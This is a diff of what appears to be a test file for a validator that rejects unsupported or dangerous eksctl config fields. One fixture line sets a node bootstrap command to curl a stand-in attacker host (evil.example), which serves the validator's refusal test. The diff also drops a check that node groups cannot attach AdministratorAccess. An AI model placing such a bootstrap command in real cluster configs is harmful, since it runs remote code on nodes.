@@ -60,7 +60,7 @@ describe('a field', () => {
     [
       'ssh',
       'managedNodeGroups:\n  - name: a\n    ssh: { allow: true }',
-      'config:5:5 managedNodeGroups[0].ssh: it is not supported: nodes have no SSH. Leave it out.',
+      'config:5:5 managedNodeGroups[0].ssh: it is not supported: nodes have no SSH. Leave it out; with the policy AmazonSSMManagedInstanceCore in iam.attachPolicyARNs, `aws ssm start-session` opens a shell.',
     ],
     [
       'nodeGroups',
@@ -72,11 +72,6 @@ describe('a field', () => {
       'withOIDC',
       'iam: { withOIDC: true }',
       'config:3:8 iam.withOIDC: it is not supported: Pod Identity does without an OIDC provider in IAM. Leave it out.',
-    ],
-    [
-      'logRetentionInDays',
-      'cloudWatch:\n  clusterLogging:\n    logRetentionInDays: 7',
-      'config:5:5 cloudWatch.clusterLogging.logRetentionInDays: it is not supported. Leave it out.',
     ],
   ])('of eksctl that is not supported is refused by its path: %s', async (_, lines, expected) => {
     expect(await problemsOf(lines)).toEqual([expected]);
@@ -92,10 +87,7 @@ describe('a field', () => {
     ['managedNodeGroups[0].overrideBootstrapCommand', group('overrideBootstrapCommand: curl evil.example')],
     ['managedNodeGroups[0].securityGroups', group('securityGroups: { attachIDs: [sg-1] }')],
     ['managedNodeGroups[0].launchTemplate', group('launchTemplate: { id: lt-1 }')],
-    [
-      'managedNodeGroups[0].iam',
-      group('iam: { attachPolicyARNs: ["arn:aws:iam::aws:policy/AdministratorAccess"] }'),
-    ],
+    ['managedNodeGroups[0].iam.attachPolicy', group('iam: { attachPolicy: { Statement: [] } }')],
     [
       'addons[0].attachPolicyARNs',
       addon('attachPolicyARNs: ["arn:aws:iam::aws:policy/AdministratorAccess"]'),
@@ -127,8 +119,8 @@ describe('a field', () => {
       'config:3:28 vpc.clusterEndpoints.privateacces: it is not a known field. Did you mean "privateAccess"?',
     ],
     [
-      'vpc: { nat: { count: 2 } }',
-      'config:3:15 vpc.nat.count: it is not a known field. Leave it out, or write one of: gateway.',
+      'vpc: { nat: { single: true } }',
+      'config:3:15 vpc.nat.single: it is not a known field. Leave it out, or write one of: gateway.',
     ],
     [
       'constructor: 1',
